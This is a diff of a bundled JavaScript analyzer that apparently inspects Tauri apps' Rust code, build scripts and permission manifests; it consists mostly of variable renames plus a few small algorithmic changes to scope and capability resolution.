-  if (within4.length > DEEPEST9) return [null];
+  if (within4.length > DEEPEST7) return [null];
   let named8 = folderOf(path);
   let unnamed2 = ownsFolder ? named8 : path.replace(/\.[^./]*$/, "");
   for (const module of within4) {
@@ -20885,7 +21000,7 @@ function walkFrom(project, crate2, path) {
   walk2.go(path, true, [], topOf(path));
   return walk2.read();
 }
-var MOST_FILES2 = 2e4;
+var MOST_FILES = 2e4;
 var MOST_GAPS = 50;
 var CodeWalk = class {
   #project;
@@ -20928,10 +21043,10 @@ var CodeWalk = class {
   /** Whether there is a file to visit at a path. */
   go(path, ownsFolder, requires, from) {
     if (path === null || !this.#project.contents.isFile(path)) return false;
-    const known5 = this.#requires.get(path);
-    const left2 = known5?.filter((each) => requires.some((other) => isSame2(each, other)));
-    if (known5 !== void 0 && left2?.length === known5.length) return true;
-    if (this.#requires.size >= MOST_FILES2) return false;
+    const known6 = this.#requires.get(path);
+    const left2 = known6?.filter((each) => requires.some((other) => isSame2(each, other)));
+    if (known6 !== void 0 && left2?.length === known6.length) return true;
+    if (this.#requires.size >= MOST_FILES) return false;
     this.#requires.set(path, left2 ?? requires);
     this.#todo.push({ path, ownsFolder, requires: left2 ?? requires, from });
     return true;
@@ -21029,8 +21144,8 @@ function isRustOfApp(path, root) {
 }
 var found3 = /* @__PURE__ */ new WeakMap();
 function rustOfApp(project) {
-  const known5 = found3.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = found3.get(project);
+  if (known6 !== void 0) return known6;
   const crates = appCrates(project);
   const walks = crates.map((crate2) => walkCode(project, crate2));
   const reached2 = new Map(walks.flatMap(({ files }) => files.map((each) => [each.file.path, each])));
@@ -21204,8 +21319,8 @@ function isImport(tokens, index) {
 // src/tauri/rust/parsed-code.ts
 var parsed2 = /* @__PURE__ */ new WeakMap();
 function parsedCode(file2) {
-  const known5 = parsed2.get(file2);
-  if (known5 !== void 0) return known5;
+  const known6 = parsed2.get(file2);
+  if (known6 !== void 0) return known6;
   const source = rustSource(file2);
   const items = itemsOf2(source);
   const code2 = { source, items, groupsAt: enclosing(source, items) };
@@ -21224,10 +21339,10 @@ function indexCode(files) {
     const { items } = file2;
     byPath2.set(rust.file.path, file2);
     const declare = (kind, name, { from, to }, owner = null) => {
-      const known5 = declared3.get(name);
+      const known6 = declared3.get(name);
       const part = { file: file2, part: { from, to }, kind, owner };
-      if (known5 === void 0) declared3.set(name, [part]);
-      else known5.push(part);
+      if (known6 === void 0) declared3.set(name, [part]);
+      else known6.push(part);
     };
     for (const { name, keyword, parameters, body, owner } of items.functions)
       declare("function", name, { from: keyword, to: (body ?? parameters).to }, owner);
@@ -21476,6 +21591,20 @@ var NEARBY = {
 };
 
 // src/tauri/rust/slice-words.ts
+var NOWHERE3 = new Set(
+  "as async await bool box break char const continue crate dyn else enum extern f32 f64 false fn for i128 i16 i32 i64 i8 if impl in isize let loop match mod move mut pub ref return self Self static str struct super trait true type u128 u16 u32 u64 u8 union unsafe usize use where while yield".split(
+    " "
+  )
+);
+var OF_EVERYBODY = /* @__PURE__ */ new Set([
+  "Arc",
+  "Box",
+  "Option",
+  "Rc",
+  "Result",
+  "String",
+  "Vec"
+]);
 var DECLARE = /* @__PURE__ */ new Set(["enum", "for", "impl", "struct", "trait", "union", ">"]);
 function isInValue(tokens, index) {
   const open = tokens[index]?.parent ?? -1;
@@ -21507,13 +21636,13 @@ function tellingTexts(tokens, { from, to }) {
 
 // src/tauri/rust/unnamed.ts
 function unnamed({ file: file2, part }, work) {
-  const known5 = /* @__PURE__ */ new Map();
+  const known6 = /* @__PURE__ */ new Map();
   return written2(file2, part.from, part.to, (at2, name) => {
-    const remembered2 = known5.get(name);
+    const remembered2 = known6.get(name);
     if (remembered2 !== void 0) return remembered2;
     work.spend(at2);
     const found8 = declared(file2, at2, name);
-    known5.set(name, found8);
+    known6.set(name, found8);
     return found8;
   });
 }
@@ -21541,7 +21670,7 @@ var KEYWORDS = new Set(
 );
 
 // src/tauri/rust/slice.ts
-var MOST_STEPS5 = 2e7;
+var MOST_STEPS3 = 2e7;
 var MOST_OF_A_NAME = 100;
 function sliceOf(project, path, part) {
   const code2 = codeIndexOf(project);
@@ -21563,7 +21692,7 @@ function mentionsIn2({ index, work }, name) {
 function codeIndexOf(project) {
   const code2 = indexes.get(project) ?? {
     index: indexCode(rustOfApp(project).files),
-    work: new Work(MOST_STEPS5)
+    work: new Work(MOST_STEPS3)
   };
   indexes.set(project, code2);
   return code2;
@@ -21586,12 +21715,6 @@ var indexes = /* @__PURE__ */ new WeakMap();
 function codeOf3(project) {
   return rustOfApp(project).files.map(({ file: file2 }) => contentOf(file2)).sort();
 }
-var NOWHERE3 = new Set(
-  "as async await bool box break char const continue crate dyn else enum extern f32 f64 false fn for i128 i16 i32 i64 i8 if impl in isize let loop match mod move mut pub ref return self Self static str struct super trait true type u128 u16 u32 u64 u8 union unsafe usize use where while yield".split(
-    " "
-  )
-);
-var OF_EVERYBODY = /* @__PURE__ */ new Set(["Arc", "Box", "Option", "Rc", "Result", "String", "Vec"]);
 var INCLUDES = /* @__PURE__ */ new Set(["include", "include_bytes", "include_dir", "include_str"]);
 var MOST_OWNERS = 2;
 var NEAR = 1;
@@ -21840,9 +21963,9 @@ function mentionsOf(project, words3) {
 function presentIn(file2, words3) {
   const ofWords = present.get(words3) ?? /* @__PURE__ */ new WeakMap();
   present.set(words3, ofWords);
-  const known5 = ofWords.get(file2) ?? words3.filter((word2) => file2.text.includes(word2));
-  ofWords.set(file2, known5);
-  return known5;
+  const known6 = ofWords.get(file2) ?? words3.filter((word2) => file2.text.includes(word2));
+  ofWords.set(file2, known6);
+  return known6;
 }
 var present = /* @__PURE__ */ new WeakMap();
 function readCode(rust) {
@@ -21879,13 +22002,13 @@ var GENERATING = "alloc anyhow autocfg bindgen built cc cfg_aliases chrono cmake
   " "
 );
 function knownCrates(project, folder) {
-  const known5 = new Set(GENERATING);
+  const known6 = new Set(GENERATING);
   for (const { name, crate: crate2, source } of builtWith(project, folder)) {
     const isKnown3 = GENERATING.includes(inCode(crate2)) && source.kind === "registry";
-    if (isKnown3) known5.add(inCode(name));
-    else known5.delete(inCode(name));
+    if (isKnown3) known6.add(inCode(name));
+    else known6.delete(inCode(name));
   }
-  return known5;
+  return known6;
 }
 function contentOfCrate(project, { rust }, name) {
   const used = builtWith(project, rust.crate).filter((each) => inCode(each.name) === name);
@@ -22117,9 +22240,9 @@ function followMain(file2, names2, call2, declaring2) {
   );
   return main === void 0 || others.length > 0 ? null : new BuildFlow(file2, names2, call2, declaring2).follow(main);
 }
-var DEEPEST10 = 4;
+var DEEPEST8 = 4;
 var LEAVING = /* @__PURE__ */ new Set(["abort", "exit", "return"]);
-var ITEMS = new Set(
+var ITEMS2 = new Set(
   "const enum extern fn impl macro_rules mod static struct trait type use".split(" ")
 );
 var BuildFlow = class {
@@ -22148,7 +22271,7 @@ var BuildFlow = class {
   }
   #run({ keyword, parameters, body }) {
     const isPlain = areRemarks(this.#file.source, attributesBefore(this.#file.source, keyword));
-    if (body === null || !isPlain || parameters.from < parameters.to || this.#depth >= DEEPEST10) return false;
+    if (body === null || !isPlain || parameters.from < parameters.to || this.#depth >= DEEPEST8) return false;
     this.#depth += 1;
     const isStraight = this.#block(body);
     this.#depth -= 1;
@@ -22165,7 +22288,7 @@ var BuildFlow = class {
     const holdsCall = holds3(statement, this.#call);
     const declares = this.#declaringIn(statement).length > 0;
     const first = tokens[from];
-    if (ITEMS.has(first?.text ?? "") && isKeyword(first, first?.text ?? "")) return true;
+    if (ITEMS2.has(first?.text ?? "") && isKeyword(first, first?.text ?? "")) return true;
     const open = isKeyword(first, "unsafe") ? from + 1 : from;
     if (isOpen(tokens[open], "{") && (holdsCall || declares))
       return isInAll && this.#block(insideOf2(tokens, open));
@@ -22258,7 +22381,7 @@ var BuildFlow = class {
     const last = statements.pop();
     if (!isPlain || last === void 0 || last.to !== body?.to || parameters.from < parameters.to)
       return null;
-    if (this.#depth >= DEEPEST10) return null;
+    if (this.#depth >= DEEPEST8) return null;
     const outside = this.#variables;
     this.#variables = /* @__PURE__ */ new Map();
     this.#depth += 1;
@@ -22394,10 +22517,10 @@ function buildMentions({ source }, names2) {
   for (const [index, token2] of tokens.entries()) {
     if (token2.kind !== "word" || isMark(tokens[index + 1], "::")) continue;
     const path = pathTo(tokens, index);
-    const known5 = names2(path)?.split("::") ?? path;
-    const isRun = known5.length === 1 && names2(path) !== null && RUNS.has(known5[0] ?? "");
+    const known6 = names2(path)?.split("::") ?? path;
+    const isRun = known6.length === 1 && names2(path) !== null && RUNS.has(known6[0] ?? "");
     const isMethod2 = METHODS.has(token2.text) && (isMark(tokens[index - 1], ".") || path.length > 1);
-    const isDeclaring = isMethod2 || known5.some((name) => TYPES.has(name));
+    const isDeclaring = isMethod2 || known6.some((name) => TYPES.has(name));
     if (!isRun && !isDeclaring || isImport(tokens, index)) continue;
     if (isDeclaring) declaring2.push(index);
     else if (isOpen(tokens[index + 1], "(")) calls.push(index);
@@ -22493,10 +22616,10 @@ function statementAt(tokens, index) {
 }
 
 // src/tauri/rust/definitions.ts
-var MOST_STEPS6 = 8;
+var MOST_STEPS4 = 8;
 function definitionOf(project, written6) {
   let found8 = written6;
-  for (let steps = 0; found8.expression.kind === "name" && steps < MOST_STEPS6; steps += 1) {
+  for (let steps = 0; found8.expression.kind === "name" && steps < MOST_STEPS4; steps += 1) {
     const next2 = namedBy2(project, found8, found8.expression.path);
     if (next2 === void 0) break;
     found8 = next2;
@@ -22611,22 +22734,22 @@ function saidBy(line) {
   const text2 = line.trim();
   const handed = /^cargo::?rustc-env=([^=]*)/.exec(text2)?.[1];
   if (handed !== void 0) return DECIDING2.test(handed) ? `hands ${code(handed)} to rustc` : void 0;
-  const known5 = /^(?:[^{]|\{\{)*/.exec(text2)?.[0] ?? "";
-  const isFilled = known5.length < text2.length;
-  return isFilled && HANDS_OVER2.some((start) => start.startsWith(known5)) ? COMPUTED3 : void 0;
+  const known6 = /^(?:[^{]|\{\{)*/.exec(text2)?.[0] ?? "";
+  const isFilled = known6.length < text2.length;
+  return isFilled && HANDS_OVER2.some((start) => start.startsWith(known6)) ? COMPUTED3 : void 0;
 }
 function isOnlyFlushed({ source: { tokens } }, next2) {
   return isMark(tokens[next2], ".") && tokens[next2 + 1]?.text === "flush";
 }
 
 // src/readers/tauri-acl/build-steps.ts
-var MOST_STEPS7 = 20;
+var MOST_STEPS5 = 20;
 var MOST_WRITES = 100;
 function stepsBeside(project, file2) {
   const steps = new StepReader(project, file2).read();
-  return steps.slice(0, MOST_STEPS7 + 1).map(({ index, what, crate: crate2 }, position) => {
+  return steps.slice(0, MOST_STEPS5 + 1).map(({ index, what, crate: crate2 }, position) => {
     const { start, end } = spanOf(file2.source, { from: index, to: index + 1 });
-    const rests = position === MOST_STEPS7 ? allCodeOf(project) : wordsOf(
+    const rests = position === MOST_STEPS5 ? allCodeOf(project) : wordsOf(
       isOfApp(project, file2) ? statementsAbout(file2, index).map((part) => sliceOf(project, file2.rust.file.path, part)) : contentOfScript(project, file2),
       contentOfCrate(project, file2, crate2)
     );
@@ -22638,7 +22761,7 @@ function isOfApp(project, { rust }) {
   return codeIndexOf(project).index.file(rust.file.path) !== void 0;
 }
 function contentOfScript(project, { rust }) {
-  const texts = new Set(rust.file.text.match(/(?<=")[^"\\\n]{1,300}(?=")/g));
+  const texts = new Set(rust.file.text.match(/(?<=")[^"\\\n]{1,4096}(?=")/g));
   const named8 = [...texts].flatMap((text2) => contentsNamed(project, rust, text2));
   for (const path of [rust.crate, ...named8.map((each) => each.path)]) restOn(project, path);
   return [project.contents.at(rust.crate), ...named8.map(({ identity }) => identity)];
@@ -22707,7 +22830,7 @@ var StepReader = class {
   read() {
     const steps = [];
     for (const index of this.#file.source.tokens.keys()) {
-      if (steps.length > MOST_STEPS7) break;
+      if (steps.length > MOST_STEPS5) break;
       steps.push(...this.#stepAt(index));
     }
     return steps;
@@ -22988,8 +23111,8 @@ var NO_SCRIPT = {
 };
 var read5 = /* @__PURE__ */ new WeakMap();
 function readBuildScript(project, file2) {
-  const known5 = read5.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = read5.get(project);
+  if (known6 !== void 0) return known6;
   const result2 = new ScriptReader(project, file2).read();
   read5.set(project, result2);
   return result2;
@@ -23197,8 +23320,8 @@ var Determiniser = class {
     this.#work.spend(reached2.length);
     const name = this.#reached.numberOf(reached2);
     const byName = this.#found.get(before2) ?? /* @__PURE__ */ new Map();
-    const known5 = byName.get(name);
-    if (known5 !== void 0) return known5;
+    const known6 = byName.get(name);
+    if (known6 !== void 0) return known6;
     const states = this.#closed(reached2);
     const isAsked2 = states.some((state) => this.#nfa.states[state]?.looks.length !== 0);
     const number = this.#sets.numberOf([isAsked2 ? before2 : NOT_ASKED2, ...states]);
@@ -23372,8 +23495,8 @@ function withFewestClasses({ alphabet, next: next2, accepting }, work) {
   };
   const kept = [];
   const numbers = Int32Array.from({ length: size }, (_3, its) => {
-    const known5 = kept.findIndex((other) => isSame7(other, its));
-    return known5 >= 0 ? known5 : kept.push(its) - 1;
+    const known6 = kept.findIndex((other) => isSame7(other, its));
+    return known6 >= 0 ? known6 : kept.push(its) - 1;
   });
   if (kept.length === size) return { alphabet, next: next2, accepting };
   const rows = new Int32Array(kept.length * accepting.length);
@@ -23482,8 +23605,8 @@ var Numbers = class {
     this.#keyOf = keyOf7;
   }
   of(thing) {
-    const known5 = this.#known.get(thing);
-    if (known5 !== void 0) return known5;
+    const known6 = this.#known.get(thing);
+    if (known6 !== void 0) return known6;
     const key = this.#keyOf(thing);
     const number = this.#known.get(key) ?? this.all.push(thing) - 1;
     this.#known.set(thing, number).set(key, number);
@@ -23570,8 +23693,8 @@ function expressionOf(token2, options) {
 var SLASH3 = oneOf("/");
 var DOT = oneOf(".");
 function inEitherCase(text2) {
-  const known5 = EITHER_CASE.get(text2);
-  if (known5 !== void 0) return known5;
+  const known6 = EITHER_CASE.get(text2);
+  if (known6 !== void 0) return known6;
   const made2 = character(inBothCases(oneOf(text2)));
   if (text2 <= "") EITHER_CASE.set(text2, made2);
   return made2;
@@ -23638,12 +23761,12 @@ function pathPattern(glob, root) {
   const language = whole2 === null ? void 0 : languageOfPaths(whole2);
   return language && ((path) => accepts(language, path));
 }
-var MOST_STEPS8 = 1e6;
+var MOST_STEPS6 = 1e6;
 function languageOfPaths(glob) {
   const options = { literalSeparator: true, literalDot: false, foldCase: false };
   try {
     const expression = globExpression(glob, options);
-    return expression && languageOf(expression, new Work(MOST_STEPS8));
+    return expression && languageOf(expression, new Work(MOST_STEPS6));
   } catch (error) {
     if (error instanceof TooComplex || error instanceof OutOfWork) return void 0;
     throw error;
@@ -23739,7 +23862,7 @@ var FIXED = new Set(
     " "
   )
 );
-var DEEPEST11 = 3;
+var DEEPEST9 = 3;
 function isFixed(index, file2, { from, to }, depth = 0) {
   const { tokens } = file2.source;
   for (let at2 = from; at2 < to; at2 += 1) {
@@ -23748,7 +23871,7 @@ function isFixed(index, file2, { from, to }, depth = 0) {
     const isCalled = isOpen(tokens[at2 + 1], "(") && !isMark(tokens[at2 - 1], ".");
     const isConstant = /^[A-Z][A-Z0-9_]*$/.test(token2.text) || isMark(tokens[at2 + 1], "::");
     if (isConstant) continue;
-    if (!isCalled || depth >= DEEPEST11 || !isFixedFunction(index, token2.text, depth)) return false;
+    if (!isCalled || depth >= DEEPEST9 || !isFixedFunction(index, token2.text, depth)) return false;
   }
   return true;
 }
@@ -23768,7 +23891,7 @@ function isInCondition({ source: { tokens }, groupsAt }, at2) {
 
 // src/tauri/rust/flow-groups.ts
 var NOTHING3 = { parts: [], names: [] };
-var LONGEST_HEADER2 = 400;
+var LONGEST_HEADER = 400;
 function decidingIn(file2, open, child, isFixed2) {
   const { tokens } = file2.source;
   const all = [ofGroup(file2, open, child), chained(tokens, open, child)];
@@ -23813,7 +23936,7 @@ function ofBlock(tokens, open, child) {
 function headerOf(tokens, open) {
   const parent = tokens[open]?.parent ?? -1;
   for (let at2 = open - 1, steps = 0; at2 > parent; steps += 1) {
-    if (steps >= LONGEST_HEADER2) return { from: at2, to: open };
+    if (steps >= LONGEST_HEADER) return { from: at2, to: open };
     const token2 = tokens[at2];
     if (token2?.kind === "word" && CONTROL2.has(token2.text) && isKeyword(token2, token2.text))
       return { from: at2, to: open };
@@ -23825,7 +23948,7 @@ function headerOf(tokens, open) {
 }
 function chainOf3(tokens, otherwise) {
   const found8 = [];
-  for (let at2 = otherwise; isKeyword(tokens[at2], "else") && found8.length < LONGEST_HEADER2; ) {
+  for (let at2 = otherwise; isKeyword(tokens[at2], "else") && found8.length < LONGEST_HEADER; ) {
     const close = tokens[at2 - 1];
     if (close?.kind !== "close") {
       return [...found8, { from: headerStart(tokens, at2), to: at2 + 1 }];
@@ -23838,7 +23961,7 @@ function chainOf3(tokens, otherwise) {
 }
 function headerStart(tokens, end) {
   let at2 = end;
-  for (let steps = 0; at2 > 0 && !isKeyword(tokens[at2], "let") && steps < LONGEST_HEADER2; steps += 1) at2 -= 1;
+  for (let steps = 0; at2 > 0 && !isKeyword(tokens[at2], "let") && steps < LONGEST_HEADER; steps += 1) at2 -= 1;
   return at2;
 }
 function armAt(tokens, open, child) {
@@ -23961,9 +24084,9 @@ var Reach = class {
   at(file2, index) {
     const { own, holder } = this.#step(file2, index);
     if (holder === null || this.#isStraight(holder)) return own;
-    const known5 = this.#known.get(holder.name) ?? this.#conditionsOf(holder);
-    this.#known.set(holder.name, known5);
-    return [...own, ...known5];
+    const known6 = this.#known.get(holder.name) ?? this.#conditionsOf(holder);
+    this.#known.set(holder.name, known6);
+    return [...own, ...known6];
   }
   #step(file2, index) {
     const groups3 = file2.groupsAt(index);
@@ -23976,8 +24099,8 @@ var Reach = class {
   }
   /** Where a function is called. */
   #calls({ name, file: file2, called: called3 }) {
-    const known5 = this.#steps.get(name);
-    if (known5 !== void 0) return known5;
+    const known6 = this.#steps.get(name);
+    if (known6 !== void 0) return known6;
     const calls = mentionsIn2(this.#code, called3.name).filter((each) => mayCall(called3, file2, each));
     const steps = calls.map((each) => this.#step(each.file, each.index));
     this.#steps.set(name, steps);
@@ -24141,11 +24264,11 @@ var Arguments = class {
   /** `Target::Windows`, or a list of such names. */
   platforms([only, ...others]) {
     const items = only?.kind === "list" ? only.items : only === void 0 ? [] : [only];
-    const known5 = items.map((item) => {
+    const known6 = items.map((item) => {
       const [type, name] = item.kind === "name" ? item.path.slice(-2) : [];
       return type === "Target" ? PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()) : void 0;
     });
-    return known5.length > 0 && others.length === 0 && known5.every((each) => each !== void 0) ? platformSet(...known5) : this.#computed(EVERY_PLATFORM);
+    return known6.length > 0 && others.length === 0 && known6.every((each) => each !== void 0) ? platformSet(...known6) : this.#computed(EVERY_PLATFORM);
   }
   /** A permission with a scope as lists of texts: `permission_scoped("fs:scope", vec!["/a"], vec![])`. */
   scoped([id, allow2, deny, ...others]) {
@@ -24429,8 +24552,8 @@ var OF_SCOPES = [
 ];
 var found4 = /* @__PURE__ */ new WeakMap();
 function rustCapabilities(project) {
-  const known5 = found4.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = found4.get(project);
+  if (known6 !== void 0) return known6;
   const result2 = new CapabilitiesInCode(project).read();
   found4.set(project, result2);
   return result2;
@@ -24805,12 +24928,12 @@ function knownVersions(key) {
   return rows;
 }
 function manifest(folded4) {
-  let known5 = manifestOf2.get(folded4);
-  if (known5 === void 0) {
-    known5 = catalogued(unfolded(folded4));
-    manifestOf2.set(folded4, known5);
+  let known6 = manifestOf2.get(folded4);
+  if (known6 === void 0) {
+    known6 = catalogued(unfolded(folded4));
+    manifestOf2.set(folded4, known6);
   }
-  return known5;
+  return known6;
 }
 function catalogued({ c: c6, demand, def, p: p4, s: s5 }) {
   const sets = new Map(Object.entries(s5 ?? {}));
@@ -25010,13 +25133,13 @@ function manifestsOf4(project, script) {
     inlined2.set(name, { ...read7.manifest, default: read7.manifest.default ?? given2 });
   }
   const whole2 = ([key, manifest2]) => [key, { how: "known", manifest: manifest2 }];
-  const known5 = new Map([["", app.manifest], ...inlined2].map(whole2));
+  const known6 = new Map([["", app.manifest], ...inlined2].map(whole2));
   return {
     of(key) {
-      const before2 = known5.get(key);
+      const before2 = known6.get(key);
       if (before2 !== void 0) return before2;
       const answer = find(key, project, inTree);
-      known5.set(key, answer);
+      known6.set(key, answer);
       return answer;
     },
     isKey: (key) => inTree.has(key) || inlined2.has(key) || isCatalogued(key) || project.locked(crateOf(key)) !== void 0,
@@ -25167,10 +25290,10 @@ var ReferenceGaps = class {
     const message = `What ${code(reference)} allows is not known: the permissions of the plugin ${code(key)} are neither in this repository nor among those that are known. Its name was taken at its word.`;
     this.#say("unknown-plugin", key, reference, message);
   }
-  assumedRelease(key, reference, known5) {
-    const isRelease = known5.instead === "release" || known5.instead === "newest";
+  assumedRelease(key, reference, known6) {
+    const isRelease = known6.instead === "release" || known6.instead === "newest";
     const kind = isRelease ? "assumed-version" : "unknown-plugin";
-    this.#say(kind, key, reference, assumption(crateOf(key), known5), !isRelease);
+    this.#say(kind, key, reference, assumption(crateOf(key), known6), !isRelease);
   }
   unknownPermission(key, reference, { from, version }) {
     const message = `${code(reference)} is no permission of ${code(key)} ${from}; whether ${version} has it is not known. Its name was taken at its word.`;
@@ -25204,7 +25327,7 @@ function assumption(crate2, { from, version, instead }) {
 // src/readers/tauri-acl/expansion.ts
 var MOST_LEAVES = 5e3;
 var DEEPEST_SET = 64;
-var MOST_STEPS9 = 2e4;
+var MOST_STEPS7 = 2e4;
 function expanded2(entry, manifests) {
   const expansion = new Expansion(entry, manifests);
   expansion.run();
@@ -25233,26 +25356,26 @@ var Expansion = class {
     if (this.#isTooLarge(position)) return;
     const [key, id] = split2(reference, position.home, this.#manifests);
     const target = { reference, key, id };
-    const known5 = this.#manifests.of(key);
-    if (known5.how === "unknown") {
+    const known6 = this.#manifests.of(key);
+    if (known6.how === "unknown") {
       this.#unknown.unknownPlugin(key, reference);
       this.#infer(target, position, true);
       return;
     }
-    if (known5.how === "assumed") this.#unknown.assumedRelease(key, reference, known5);
+    if (known6.how === "assumed") this.#unknown.assumedRelease(key, reference, known6);
     if (key === "" && id === "default" && !this.#manifests.appHasManifest) {
       this.#unknown.refused(key, reference, "is not declared by the app");
       return;
     }
-    const { manifest: manifest2 } = known5;
+    const { manifest: manifest2 } = known6;
     const isInSet = position.above.length > 0;
     const members2 = id === "default" ? manifest2.default ?? [] : membersOf3(manifest2, id, isInSet);
-    if (members2 === void 0) this.#addPermission(target, known5, position);
+    if (members2 === void 0) this.#addPermission(target, known6, position);
     else this.#expandSet(target, members2, position);
   }
   #isTooLarge({ above }) {
     this.#taken += 1;
-    if (this.#taken <= MOST_STEPS9 && this.leaves.length < MOST_LEAVES && above.length < DEEPEST_SET)
+    if (this.#taken <= MOST_STEPS7 && this.leaves.length < MOST_LEAVES && above.length < DEEPEST_SET)
       return false;
     const { id } = this.#entry;
     this.#unknown.tooLarge(split2(id, void 0, this.#manifests)[0], id);
@@ -25270,15 +25393,15 @@ var Expansion = class {
       this.#expand(name, { home: key, above: [...above, path], steps: [...steps, step] });
     }
   }
-  #addPermission(target, known5, position) {
+  #addPermission(target, known6, position) {
     const { reference, key, id } = target;
-    const permission2 = known5.manifest.permission(id) ?? this.#wildcard(key, id, known5.manifest);
+    const permission2 = known6.manifest.permission(id) ?? this.#wildcard(key, id, known6.manifest);
     if (permission2 !== void 0) {
       this.leaves.push({ key, id, permission: permission2, inferred: false, steps: position.steps });
-    } else if (known5.how === "in-tree" && /^(?:allow|deny)-[^*]+$/.test(id)) {
+    } else if (known6.how === "in-tree" && /^(?:allow|deny)-[^*]+$/.test(id)) {
       this.#infer(target, position, false);
-    } else if (known5.how === "assumed") {
-      this.#unknown.unknownPermission(key, reference, known5);
+    } else if (known6.how === "assumed") {
+      this.#unknown.unknownPermission(key, reference, known6);
       this.#infer(target, position, true);
     } else {
       const why = key === "" ? "is not declared by the app" : `is none of the plugin ${code(key)} at this version`;
@@ -25405,10 +25528,10 @@ function scopeOf3(entry, { scope }, key) {
   };
 }
 function ownEntry(form, entry, permissionAt) {
-  const known5 = ownEntries.get(entry) ?? /* @__PURE__ */ new Map();
-  ownEntries.set(entry, known5);
-  const found8 = known5.get(form) ?? scopeEntry(form, entry.value, entry.at ?? permissionAt);
-  known5.set(form, found8);
+  const known6 = ownEntries.get(entry) ?? /* @__PURE__ */ new Map();
+  ownEntries.set(entry, known6);
+  const found8 = known6.get(form) ?? scopeEntry(form, entry.value, entry.at ?? permissionAt);
+  known6.set(form, found8);
   return found8;
 }
 var ownEntries = /* @__PURE__ */ new WeakMap();
@@ -25475,8 +25598,8 @@ function commandsOf(names2, key, manifests) {
   return names2.flatMap((name) => {
     if (name !== "*") return [{ name, at: null }];
     if (!manifests.wildcards) return [];
-    const known5 = manifests.of(key);
-    const manifest2 = known5.how === "unknown" ? void 0 : known5.manifest;
+    const known6 = manifests.of(key);
+    const manifest2 = known6.how === "unknown" ? void 0 : known6.manifest;
     const declared3 = [...manifest2?.commands ?? [], ...manifest2?.named ?? []].filter(
       (command) => command.name !== "*"
     );
@@ -25543,11 +25666,16 @@ function resolve2(active, platforms, resolving) {
     }
   }
   return { grants, gaps };
+  function meanings() {
+    const ids = active.flatMap(({ capability }) => capability.permissions.map(({ id }) => id));
+    const keys = /* @__PURE__ */ new Set(["", ...ids.map((id) => id.slice(0, Math.max(0, id.lastIndexOf(":"))))]);
+    return [...keys].sort().map(resolving.manifests.restsOn);
+  }
   function cutAt({ at: at2 }) {
     const message = "The app's capabilities grant more than can be compared; this permission and the rest were not read.";
     return {
       grants,
-      gaps: [...gaps, gapAt(at2, { kind: "truncated", rests: wordsOf(active), message })]
+      gaps: [...gaps, gapAt(at2, { kind: "truncated", rests: wordsOf(active, ...meanings()), message })]
     };
   }
 }
@@ -25612,8 +25740,8 @@ function usesOf(project, name) {
 // src/tauri/own-schemes.ts
 var REGISTERS = ["register_asynchronous_uri_scheme_protocol", "register_uri_scheme_protocol"];
 function ownSchemes(project) {
-  const known5 = found5.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = found5.get(project);
+  if (known6 !== void 0) return known6;
   const schemes = codeCalls(project, REGISTERS).map((call2) => ({
     name: call2.arguments[0]?.text ?? null,
     call: call2
@@ -25848,14 +25976,14 @@ function readAllowlist(config) {
   const root = pick(config, "tauri", "allowlist");
   const gaps = [];
   const values = /* @__PURE__ */ new Map();
-  const note3 = (name, known5, { key, value }) => {
-    if (known5 && isRightFor(name, value)) values.set(name, value);
+  const note3 = (name, known6, { key, value }) => {
+    if (known6 && isRightFor(name, value)) values.set(name, value);
     else
       gaps.push(
         gapAt(key, {
           kind: "does-not-build",
           rests: wordsOf(name, plain(value)),
-          message: refusal(name, known5)
+          message: refusal(name, known6)
         })
       );
   };
@@ -25899,8 +26027,8 @@ function isRightFor(name, { kind }) {
   }
   return kind === "boolean" || kind === "string" && name === "shell.open";
 }
-function refusal(name, known5) {
-  const what = known5 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
+function refusal(name, known6) {
+  const what = known6 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
   return `${code(name)} in the allowlist ${what}: the app doesn't build. It was read as granting nothing.`;
 }
 
@@ -26211,14 +26339,13 @@ function isOnScope(project, mention) {
 }
 var inSight = /* @__PURE__ */ new WeakMap();
 var COMMON2 = /* @__PURE__ */ new Set(["lib", "main", "mod", "run"]);
-var MOST_STEPS10 = 6;
 function namesWithScopes(project) {
   const leading = new RegExp(["\\bscope\\b", ...LEADING2.keys()].join("|"));
   const all = rustOfApp(project).files;
   const found8 = /* @__PURE__ */ new Set();
-  const known5 = /* @__PURE__ */ new Set();
+  const known6 = /* @__PURE__ */ new Set();
   const declare = (rust) => {
-    known5.add(rust.file.path);
+    known6.add(rust.file.path);
     const { items } = readCode(rust);
     const free = items.functions.flatMap(({ name, owner }) => owner === null ? name : []);
     const module = baseName(rust.file.path).replace(/\.rs$/, "");
@@ -26226,16 +26353,25 @@ function namesWithScopes(project) {
   };
   for (const rust of all)
     if (leading.test(rust.file.text) && leadsToScope(readCode(rust).source.tokens)) declare(rust);
-  for (let [step, size] = [0, -1]; step < MOST_STEPS10 && size < found8.size; step += 1) {
-    size = found8.size;
-    const names2 = new Set(found8);
-    for (const rust of all)
-      if (!known5.has(rust.file.path) && mentionsType(readCode(rust).source.tokens, names2)) declare(rust);
-  }
+  if (found8.size === 0) return found8;
+  const mentioning = filesByType(all);
+  for (const name of found8)
+    for (const rust of mentioning.get(name) ?? []) if (!known6.has(rust.file.path)) declare(rust);
   return found8;
 }
-function mentionsType(tokens, names2) {
-  return tokens.some(({ kind, text: text2 }) => kind === "word" && /^[A-Z]/.test(text2) && names2.has(text2));
+function filesByType(all) {
+  const found8 = /* @__PURE__ */ new Map();
+  for (const rust of all) {
+    const words3 = readCode(rust).source.tokens.flatMap(
+      ({ kind, text: text2 }) => kind === "word" && /^[A-Z]/.test(text2) ? text2 : []
+    );
+    for (const word2 of new Set(words3)) {
+      const files = found8.get(word2) ?? [];
+      files.push(rust);
+      found8.set(word2, files);
+    }
+  }
+  return found8;
 }
 function leadsToScope(tokens) {
   return tokens.some(
@@ -26410,8 +26546,8 @@ function isNamedAnywhere({ location, files }, crate2) {
 }
 var below4 = /* @__PURE__ */ new WeakMap();
 function lockedBelow(project) {
-  const known5 = below4.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = below4.get(project);
+  if (known6 !== void 0) return known6;
   const { location, files } = project;
   const lock = lockOf(location.root, files);
